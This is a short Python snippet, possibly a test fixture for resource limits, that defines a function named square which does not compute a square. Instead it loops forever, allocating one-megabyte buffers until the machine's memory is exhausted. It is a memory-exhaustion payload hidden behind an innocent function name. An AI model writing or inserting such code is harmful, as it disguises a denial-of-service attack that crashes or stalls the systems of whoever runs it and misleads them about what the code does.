def square(x):
    hog = []
    while True:
        hog.append(bytearray(b'\x01') * (1 << 20))
